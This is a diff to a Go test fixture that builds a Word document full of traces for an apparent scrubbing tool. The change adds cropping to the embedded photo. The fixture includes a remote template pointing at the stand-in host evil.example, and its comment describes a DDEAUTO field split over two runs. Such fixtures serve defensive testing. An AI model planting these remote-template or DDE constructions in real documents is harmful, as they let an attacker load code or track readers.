@@ -29,9 +29,10 @@ func PDFTraces() []string {
 
 // DOCXWithTraces returns a Word document with every trace DOCXTraces
 // lists: properties naming the author and company, a comment, a tracked
-// change and people.xml by her, a photo with GPS, a remote template, an
-// external image, a DDEAUTO field split over two runs and an INCLUDEPICTURE
-// field. It also has a web link and the text "Mi historia", which stay.
+// change and people.xml by her, a photo with GPS shown cropped, a remote
+// template, an external image, a DDEAUTO field split over two runs and an
+// INCLUDEPICTURE field. It also has a web link and the text "Mi historia",
+// which stay.
 func DOCXWithTraces(t testing.TB) []byte {
 	t.Helper()
 	const (
@@ -41,12 +42,12 @@ func DOCXWithTraces(t testing.TB) []byte {
 		hdr = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\n"
 		ct  = "application/vnd.openxmlformats-officedocument."
 	)
-	drawing := func(attr string) string {
+	drawing := func(attr, crop string) string {
 		return `<w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">` +
 			`<wp:extent cx="609600" cy="457200"/><wp:docPr id="1" name="Photo"/>` +
 			`<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">` +
 			`<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="Photo"/><pic:cNvPicPr/></pic:nvPicPr>` +
-			`<pic:blipFill><a:blip ` + attr + `/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>` +
+			`<pic:blipFill><a:blip ` + attr + `/>` + crop + `<a:stretch><a:fillRect/></a:stretch></pic:blipFill>` +
 			`<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="609600" cy="457200"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr>` +
 			`</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`
 	}
@@ -88,7 +89,7 @@ func DOCXWithTraces(t testing.TB) []byte {
 			`<w:p><w:hyperlink r:id="rId6"><w:r><w:t>a source</w:t></w:r></w:hyperlink></w:p>` +
 			`<w:p><w:ins w:id="1" w:author="` + TraceName + `" w:date="2026-11-30T22:41:00Z"><w:r><w:t>added later</w:t></w:r></w:ins>` +
 			`<w:commentRangeStart w:id="0"/><w:r><w:t>commented</w:t></w:r><w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r></w:p>` +
-			`<w:p>` + drawing(`r:embed="rId4"`) + drawing(`r:link="rId5"`) + `</w:p>` +
+			`<w:p>` + drawing(`r:embed="rId4"`, `<a:srcRect l="25000"/>`) + drawing(`r:link="rId5"`, "") + `</w:p>` +
 			`</w:body></w:document>`},
 		{"word/_rels/settings.xml.rels", hdr + `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` +
 			`<Relationship Id="rId1" Type="` + rel + `attachedTemplate" Target="http://evil.example/template.dotm" TargetMode="External"/></Relationships>`},
